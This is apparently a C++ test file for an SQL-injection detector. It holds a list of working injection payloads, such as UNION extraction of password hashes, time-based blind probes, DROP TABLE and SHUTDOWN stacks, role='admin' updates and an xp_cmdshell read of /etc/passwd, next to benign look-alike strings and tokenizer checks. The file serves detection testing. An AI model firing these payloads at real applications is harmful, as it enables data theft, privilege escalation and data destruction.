// Written for the SQL-injection gap against the OWASP CRS (not from any benchmark corpus): the
// contexts an application splices a value into (WHERE, INSERT row, UPDATE SET, ORDER BY, LIMIT,
// LIKE, a subquery operand) and dialect forms (CASE WHEN, DECODE, PostgreSQL $$ strings and ::
// casts, MySQL !0 and DIV, MSSQL IF before WAITFOR), plus a '+' left undecoded for a space.
const std::string_view kContextAttacks[] = {
    R"v(1 AND DECODE(SUBSTR(USER,1,1),'S',1,0)=1)v",
    R"v(1 AND CASE WHEN 1=1 THEN 1 ELSE 0 END=1)v",
    R"v(1' AND (CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1--)v",
    R"v(1 OR (CASE WHEN 1=1 THEN SLEEP(5) ELSE 0 END))v",
    R"v((CASE WHEN (SELECT 1)=1 THEN 1 ELSE 2 END))v",
    R"v('; IF (1=1) WAITFOR DELAY '0:0:5'--)v",
    R"v((SELECT 1 UNION SELECT 2))v",
    R"v('),('a','b')--)v",
    R"v('), ('eve', 'admin')#)v",
    R"v(x', 'admin')--)v",
    R"v(1, 1)--)v",
    R"v(1','2','3')--)v",
    R"v(abc', role='admin)v",
    R"v(', role='admin' WHERE id=1--)v",
    R"v(x', is_admin=1 WHERE username='bob'#)v",
    R"v(foo', password='x)v",
    R"v(', balance=99999 --)v",
    R"v(id,(SELECT 1 FROM dual))v",
    R"v(name,(select sleep(5)))v",
    R"v(name DESC,(SELECT 1 FROM (SELECT SLEEP(5))x))v",
    R"v(id ASC; DROP TABLE users)v",
    R"v(1' GROUP BY columnnames HAVING 1=1--)v",
    R"v(1 LIMIT 1 UNION SELECT 1,2)v",
    R"v(10 LIMIT 1 INTO @a)v",
    R"v(10 OFFSET 1; DROP TABLE x)v",
    R"v(1'::int--)v",
    R"v(1 AND $$a$$=$$a$$)v",
    R"v((SELECT password FROM users LIMIT 1))v",
    R"v((SELECT TOP 1 name FROM sysobjects))v",
    R"v(1+AND+1=1)v",
    R"v(1+OR+1=1--)v",
    R"v('-0-')v",
    R"v(1 AND 1 DIV 1)v",
    R"v(1 AND !0)v",
    R"v(1 OR ! 0)v",
    R"v(1 AND (@a:=1)=1)v",
    R"v(1 AND SELECT 1)v",
    R"v(1' LIMIT 1--)v",
    R"v(1 LIMIT 1--)v",
    R"v(1) WAITFOR DELAY '0:0:5' AND (1=1)v",
    R"v(' GROUP BY users.id HAVING 1=1--)v",
    R"v(abc' OR 'x'='x)v",
    R"v(x' or 2>1--)v",
    R"v(foo' OR 'abc'='abc'#)v",
    R"v(' OR TRUE#)v",
    R"v(' OR 1 IN (1)--)v",
    R"v(admin' or '1'='1'/*)v",
    R"v(admin' -- )v",
    R"v(') OR '1'='1'--)v",
    R"v(" or ""=")v",
    R"v(1 OR 3=3--)v",
    R"v(99 AND 7=7)v",
    R"v(1) AND 1=1 AND (1=1)v",
    R"v(1 AND NOT 1=2)v",
    R"v(Smith' AND 1=1--)v",
    R"v(1' AND 1=0#)v",
    R"v(1' AND LENGTH(database())=8--)v",
    R"v(1 AND UNICODE(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>60)v",
    R"v(1' AND EXISTS(SELECT 1 FROM information_schema.tables)--)v",
    R"v(1 AND IIF(1=1,1,0)=1)v",
    R"v(1' REGEXP IF(1=1,'a','(')--)v",
    R"v(1' AND ELT(1=1,SLEEP(5))--)v",
    R"v(1 AND SLEEP(5))v",
    R"v(1'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z)v",
    R"v(1); WAITFOR DELAY '0:0:7'--)v",
    R"v(1 AND 1337=(SELECT 1337 FROM PG_SLEEP(5)))v",
    R"v(1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2)))))v",
    R"v(1 UNION SELECT 1,2)v",
    R"v(-5 UNION DISTINCT SELECT 1,2,3)v",
    R"v(x' UNION SELECT username,password FROM users#)v",
    R"v(x')) UNION SELECT 1,2--)v",
    R"v(1 UNION SELECT name FROM sqlite_master WHERE type='table')v",
    R"v(1 UNION SELECT banner,NULL FROM v$version)v",
    R"v(-1 UNION SELECT @@version,@@datadir)v",
    R"v(-1 UNION SELECT name,password_hash FROM sys.sql_logins--)v",
    R"v(-1 UNION SELECT CHAR(97,98,99))v",
    R"v(1 UNION SELECT ALL 1,2)v",
    R"v(1 UNION/**/SELECT/**/1,2)v",
    R"v(1/*!UNION*//*!SELECT*/1,2)v",
    R"v(1' uNiOn aLl sElEcT nUlL--)v",
    R"v(1'; DELETE FROM users WHERE '1'='1)v",
    R"v(1'; SHUTDOWN;--)v",
    R"v('; EXEC('SEL'+'ECT 1')--)v",
    R"v(1; ALTER TABLE users ADD x INT--)v",
    R"v(1;select @@version--)v",
    R"v(a%' OR '1'='1)v",
    R"v(1 ORDER BY 3#)v",
    R"v(IF(1=1,name,price))v",
    R"v(1' HAVING 1=1--)v",
    R"v(1' AND EXP(~(SELECT * FROM (SELECT user())x))--)v",
    R"v(1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--)v",
    R"v('||(SELECT version())::int||')v",
    R"v(1 AND CHR(65)||CHR(66)='AB')v",
    R"v(x'||(SELECT '' FROM dual)||')v",
    R"v(1 AND ROWNUM=1)v",
    R"v(1' AND typeof(1)='integer'--)v",
    R"v(1 AND 0x41=0x41)v",
    R"v(1 AND X'41'=X'41')v",
    R"v(1 IN (SELECT 1))v",
    R"v(1 && 1=1)v",
    R"v(1' and 'a'='a' and '1)v",
    R"v('+')v",
    R"v(1'or 1#)v",
    R"v(-1' or 1=1 -- -)v",
    R"v(1' AND DB_NAME()='master)v",
    R"v(1 AND @@SERVERNAME IS NOT NULL)v",
    R"v(' OR 1=1 INTO @x--)v",
    R"v(1 AND current_setting('is_superuser')='on')v",
    R"v(1 AND ascii(substring(version() from 1 for 1))>0)v",
    R"v(search text' AND 1=1 AND 'a'='a)v",
    R"v(1 AND 1=1 # trailing note)v",
    R"v(1"#)v",
    R"v(1 OR 1=1;--)v",
    R"v(1" and "1"="1)v",
    R"v(1" UNION SELECT 1,2--)v",
    R"v(1 AND 5 BETWEEN 1 AND 10)v",
    R"v(1 AND 1<>2)v",
    R"v(1 AND 'x'<>'y')v",
    R"v(1 AND 1 MOD 1=0)v",
    R"v(1 OR @@version LIKE '%')v",
    R"v(1 AND MAKE_SET(1=1,SLEEP(5)))v",
    R"v(1 AND POLYGON((SELECT * FROM (SELECT * FROM (SELECT @@version)f)x)))v",
    R"v(1' AND (SELECT 1)='1)v",
    R"v('||(SELECT 1)||')v",
    R"v(1-(SELECT 0))v",
    R"v(0" OR 1=1 #)v",
    R"v(1' AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(1)</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#)v",
    R"v(1" AND 8412=8412 AND "XyZa"="XyZa)v",
    R"v(1' RLIKE (SELECT (CASE WHEN (8412=8412) THEN 1 ELSE 0x28 END))-- xYz)v",
    R"v(1 AND 8412=CONVERT(INT,(SELECT CHAR(113)+CHAR(107)+(SELECT (CASE WHEN (8412=8412) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113))))v",
    R"v(1 AND 8412=(CASE WHEN (8412=8412) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) ELSE 8412 END))v",
    R"v(1' UNION ALL SELECT NULL,NULL,NULL#)v",
    R"v(1 WAITFOR DELAY '0:0:5'--)v",
    R"v(-8412' OR 8412=8412 AND 'a'='a)v",
    R"v(1 AND 1=2 OR 1=1)v",
    R"v(1 and 'a' in ('a'))v",
    R"v(x' or length(user())>1 or 'a'='b)v",
    R"v(1;EXEC('xp_cmdshell ''dir'''))v",
    R"v(' AND 1 IN (SELECT TOP 1 name FROM sys.tables)--)v",
    R"v(-1 UNION SELECT 1, (SELECT listagg(username,',') FROM all_users)--)v",
    R"v(1 AND (SELECT COUNT(*) FROM all_users)>0)v",
    R"v('+convert(int,@@version)+')v",
    R"v(1 and len(user)>0)v",
    R"v(1 or 'x' = 'x')v",
    R"v(' or 0=0 --)v",
    R"v(' or 'a'='a)v",
    R"v(" or "a"="a)v",
    R"v(1 or 1=1 /*)v",
    R"v(admin" or "1"="1"--)v",
    R"v(1 and user()=user())v",
    R"v(1 and sleep(0)=0)v",
    R"v('||'a)v",
    R"v(1' and (select pg_sleep(5)) is null--)v",
};

// Text near the new shapes: form labels in parentheses, "case when", '+' glued to words, dollar
// signs, C++ scope operators, tuples and lists, sort phrases, apostrophes before commas.
const std::string_view kContextBenign[] = {
    R"v(select committee report)v",
    R"v(union budget 2024)v",
    R"v(O'Reilly)v",
    R"v(O'Brien's pub)v",
    R"v(d'Artagnan)v",
    R"v(rock 'n' roll)v",
    R"v("tax return" deadline)v",
    R"v(name asc)v",
    R"v(updated_at DESC, id ASC)v",
    R"v(status eq 'open')v",
    R"v(status eq 'open' and priority gt 2)v",
    R"v(name eq 'O''Brien')v",
    R"v(price lt 100 or price gt 500)v",
    R"v(how to use SELECT * FROM in mysql)v",
    R"v(select * from users where id = 1)v",
    R"v(SELECT name FROM employees WHERE dept = 'sales')v",
    R"v(what does union all do in sql)v",
    R"v(order by date)v",
    R"v(delete account help)v",
    R"v(where to apply)v",
    R"v(between 10 and 20 employees)v",
    R"v(drop shipping)v",
    R"v(insert coin)v",
    R"v(update my address)v",
    R"v(I'm looking for "red shoes" or 'blue shoes')v",
    R"v(it's 5 o'clock)v",
    R"v(don't stop me now)v",
    R"v(the players' #1 pick)v",
    R"v(kids' -- toys)v",
    R"v(1 or 2 -- see below)v",
    R"v(students' and teachers' union)v",
    R"v(5' 11" tall)v",
    R"v(6'2" height)v",
    R"v(12" pizza)v",
    R"v(a < b and b > c)v",
    R"v(50% off)v",
    R"v(1=1 is always true?)v",
    R"v(sleep well tips)v",
    R"v(if (x == 1) { return y; })v",
    R"v(for (int i = 0; i < n; i++))v",
    R"v(SELECT COUNT(*) FROM orders GROUP BY customer)v",
    R"v(print("hello world"))v",
    R"v(console.log('hi'))v",
    R"v(echo "it's done")v",
    R"v(Mary-Jane O'Neil)v",
    R"v(L'Oréal Paris)v",
    R"v(Côte d'Ivoire)v",
    R"v(jean-luc picard)v",
    R"v(--verbose flag)v",
    R"v(-- comment in sql)v",
    R"v(/* block comment */ syntax)v",
    R"v(#hashtag)v",
    R"v(1 or 2)v",
    R"v(true or false)v",
    R"v(or else what)v",
    R"v(and then there were none)v",
    R"v(Romeo and Juliet)v",
    R"v(Tom & Jerry)v",
    R"v(AT&T)v",
    R"v(Q&A)v",
    R"v(C# tutorial)v",
    R"v(F# vs C#)v",
    R"v(C++ templates)v",
    R"v(a+b=c)v",
    R"v(x = y + 1)v",
    R"v(2+2=4)v",
    R"v(1-1)v",
    R"v(10-20)v",
    R"v(2024-01-01)v",
    R"v('quoted')v",
    R"v("quoted")v",
    R"v('hello' said the man)v",
    R"v(He said "yes" and she said 'no')v",
    R"v(It's Bob's car)v",
    R"v(Let's go)v",
    R"v(The 'best' option)v",
    R"v(what's the difference between 'and' and 'or')v",
    R"v(Union Station)v",
    R"v(union square cafe)v",
    R"v(select your size)v",
    R"v(insert card here)v",
    R"v(drop me a line)v",
    R"v(join us)v",
    R"v(execute order 66)v",
    R"v(exec summary)v",
    R"v(truncate text css)v",
    R"v(create account)v",
    R"v(alter ego)v",
    R"v(grant application)v",
    R"v(declare independence)v",
    R"v(count of monte cristo)v",
    R"v(sum of all fears)v",
    R"v(max payne)v",
    R"v(min and max values)v",
    R"v(having fun)v",
    R"v(limit 10)v",
    R"v(offset printing)v",
    R"v(top 10 movies)v",
    R"v(case study)v",
    R"v(when is the sale)v",
    R"v(null pointer exception)v",
    R"v(is not null check)v",
    R"v(like and subscribe)v",
    R"v(in the end)v",
    R"v(not found)v",
    R"v(exists or not)v",
    R"v(values and ethics)v",
    R"v(into the wild)v",
    R"v(from dusk till dawn)v",
    R"v(group by country)v",
    R"v(sort by price)v",
    R"v(1' or something)v",
    R"v(rock'n'roll)v",
    R"v(n'importe quoi)v",
    R"v(aujourd'hui)v",
    R"v(l'été)v",
    R"v(j'ai faim)v",
    R"v(it''s)v",
    R"v(shop's 'special' deal)v",
    R"v(the '90s)v",
    R"v('80s music)v",
    R"v(Hawai'i)v",
    R"v(Ko'olau)v",
    R"v('Ōlelo)v",
    R"v(ma'am)v",
    R"v(y'all)v",
    R"v(o'clock)v",
    R"v(ne'er)v",
    R"v(fo'c'sle)v",
    R"v(mother-in-law's house)v",
    R"v(#1 best seller)v",
    R"v(item #42)v",
    R"v(version 2.0 -- beta)v",
    R"v(page 1 of 10)v",
    R"v(-1)v",
    R"v(+1)v",
    R"v(1e5)v",
    R"v(0x1F)v",
    R"v(#ff0000)v",
    R"v(rgb(255, 0, 0))v",
    R"v(calc(100% - 10px))v",
    R"v(sum(1, 2))v",
    R"v(max(a, b))v",
    R"v(f(x) = x^2)v",
    R"v(sin(x) + cos(y))v",
    R"v(Select Comfort mattress)v",
    R"v(Insert Media)v",
    R"v(Union Pacific)v",
    R"v(Order By Phone)v",
    R"v(Drop Box)v",
    R"v(Count Basie)v",
    R"v(Sleep Number bed)v",
    R"v(Char Broil grill)v",
    R"v(Concat strings in python)v",
    R"v(user(s))v",
    R"v(version(s))v",
    R"v(select (1) item)v",
    R"v((optional) notes)v",
    R"v([draft] report)v",
    R"v({json} format)v",
    R"v("a" or "b")v",
    R"v('a' or 'b')v",
    R"v('x' and 'y')v",
    R"v(yes or no)v",
    R"v(1 and 2)v",
    R"v(a=1 and b=2)v",
    R"v(a = 'b')v",
    R"v(id='5')v",
    R"v(category = "books")v",
    R"v(from: john@example.com)v",
    R"v(to: jane@example.com)v",
    R"v(re: your order #123)v",
    R"v(fwd: meeting)v",
    R"v(I'd like 2 or 3)v",
    R"v(we're 'open' 24/7)v",
    R"v(Shaquille O'Neal stats)v",
    R"v(Conan O'Brien show)v",
    R"v(Sinéad O'Connor)v",
    R"v(Guns N' Roses)v",
    R"v(Hershey's Kisses)v",
    R"v(McDonald's menu)v",
    R"v(Macy's sale)v",
    R"v(Lowe's hours)v",
    R"v(Kohl's coupon)v",
    R"v(Trader Joe's)v",
    R"v(Dunkin' Donuts)v",
    R"v(Ben & Jerry's)v",
    R"v(Levi's 501)v",
    R"v(Children's Place)v",
    R"v(Women's shoes)v",
    R"v(Men's jackets)v",
    R"v((select one))v",
    R"v((Select one from the list))v",
    R"v((select all that apply))v",
    R"v((Select one from below))v",
    R"v((select 1 item))v",
    R"v((select 2 or more))v",
    R"v((SELECT 3))v",
    R"v(Update (select all))v",
    R"v(delete (select all) files)v",
    R"v(select (case study))v",
    R"v(just in case when you need it)v",
    R"v(case when needed)v",
    R"v(in case when 1 fails)v",
    R"v(1 and case when)v",
    R"v(C++ and Java)v",
    R"v(A+ or B)v",
    R"v(grade A+ or above)v",
    R"v(2+ or more people)v",
    R"v(18+ and over)v",
    R"v(1+ and 2)v",
    R"v(10+ union jobs)v",
    R"v(50+ select models)v",
    R"v($$$ deals)v",
    R"v($$ cheap eats)v",
    R"v(costs $10$)v",
    R"v($5 off $$)v",
    R"v(std::vector<int>)v",
    R"v(a::b)v",
    R"v(Foo::bar())v",
    R"v(1::2)v",
    R"v((1),(2))v",
    R"v((a), (b))v",
    R"v(name, email=(optional))v",
    R"v(name, email='x')v",
    R"v(x=1, y='2')v",
    R"v(Bob's, Jim's)v",
    R"v(Bob's, name='x')v",
    R"v(rock', 'pop')v",
    R"v(1, 2))v",
    R"v(1, 2) -- see note)v",
    R"v((1, 2) --)v",
    R"v(page 1 limit 1 --)v",
    R"v(top 10 order by 1)v",
    R"v(coffee order by 2)v",
    R"v(sort: name order by 1)v",
    R"v(best pizza order by 5)v",
    R"v(pizza order by 5pm)v",
    R"v(name asc; next)v",
    R"v(order 1 limit 2)v",
    R"v(5 offset 1)v",
    R"v($100 off; select models)v",
    R"v(size, color=(select one))v",
    R"v(where x=(select one))v",
    R"v((select one), color=(choose))v",
    R"v(he said 'hi', then='bye')v",
    R"v(it's, 'quoted')v",
    R"v(1 and !important)v",
    R"v(1 or !)v",
    R"v(not 1 or not 2)v",
    R"v(1 or not 1)v",
    R"v(5 mod 2 or 3)v",
    R"v(10 div 2 and 3)v",
    R"v(1 div 1)v",
    R"v(1 and 1 div 1 equals)v",
    R"v(the 1 and 2 div)v",
    R"v(STR(1) in python)v",
    R"v(x + str(1) + y)v",
    R"v(I tried '+str(x)+' in python)v",
    R"v(print("total: " + str(n) + " items"))v",
    R"v(decode(utf8))v",
    R"v(I can decode(it) quickly)v",
    R"v(user_id(5))v",
    R"v(hextoraw(x))v",
};

TEST(SqliAttacks, ApplicationContextsAndDialectForms) {
  static_assert(std::size(kContextAttacks) >= 100);
  std::size_t missed = 0;
  for (const std::string_view v : kContextAttacks) {
    const SqliResult r = detectSqli(v);
    if (!r.injection) {
      ++missed;
      ADD_FAILURE() << "missed: " << v << "  (readings: " << readSqli(v, kAsIs).text() << " / "
                    << readSqli(v, kSingle).text() << " / " << readSqli(v, kDouble).text() << ")";
    }
  }
  EXPECT_EQ(missed, 0u);
}

TEST(SqliBenign, ContextLookalikesNotDetected) {
  static_assert(std::size(kContextBenign) >= 150);
  for (const std::string_view v : kContextBenign) {
    const SqliResult r = detectSqli(v);
    EXPECT_FALSE(r.injection) << "false positive: " << v << "  fingerprint " << fingerprintOf(r)
                              << " context " << contextName(r.context);
  }
}

TEST(SqliTokenizer, DialectLiteralsAndCasts) {
  // PostgreSQL dollar quoting: $$...$$ and $tag$...$tag$ are strings; "$1" is no delimiter.
  EXPECT_EQ(readSqli("1 and $$a$$=$$a$$", kAsIs).text(), "1&sos");
  EXPECT_EQ(readSqli("$q$it's$q$", kAsIs).text(), "s");
  EXPECT_EQ(readSqli("$$ open", kAsIs).text(), "s");
  EXPECT_EQ(readSqli("$1 and $2", kAsIs).text(), "n&n");
  // A cast is no token: "1'::int--" closes the string and comments the rest out.
  EXPECT_EQ(readSqli("1'::int--", kSingle).text(), "sc");
  EXPECT_EQ(readSqli("1 :: integer = 1", kAsIs).text(), "1o1");
  // CASE WHEN is one conditional token 'W'; CASE alone stays a keyword.
  EXPECT_EQ(readSqli("1 and case when 1=1 then 1 end", kAsIs).text(), "1&W1o");
  EXPECT_EQ(readSqli("select (case study)", kAsIs).text(), "E(kn)");
  // A '+' glued before AND/OR/UNION is a space decoded once too few; after them it is unary.
  EXPECT_EQ(readSqli("1+AND+1=1", kAsIs).text(), "1&1o1");
  EXPECT_EQ(readSqli("1+union+select+1", kAsIs).text(), "1UE1");
  EXPECT_EQ(readSqli("1+1", kAsIs).text(), "1");
}

TEST(SqliFingerprint, ConditionsOnShortShapes) {
  // "1&1" is text ("1 or 2") unless the last operand is written as only SQL writes it.
  EXPECT_FALSE(detectSqli("1 or 2").injection);
  EXPECT_FALSE(detectSqli("true or false").injection);
  EXPECT_TRUE(detectSqli("1 and !0").injection);
  EXPECT_TRUE(detectSqli("1 or 1 div 1").injection);
  // A subquery handed over whole needs its opening parenthesis.
  EXPECT_TRUE(detectSqli("(select 1 from dual)").injection);
  EXPECT_FALSE(detectSqli("select 1 from dual").injection);
  EXPECT_FALSE(detectSqli("(select 1 item)").injection);
  // "1, 1)--" closes the application's parenthesis; "(1, 2) --" is a pair.
  EXPECT_TRUE(detectSqli("1, 1)--").injection);
  EXPECT_FALSE(detectSqli("(1, 2) --").injection);
}

}  // namespace
}  // namespace mamori::detect
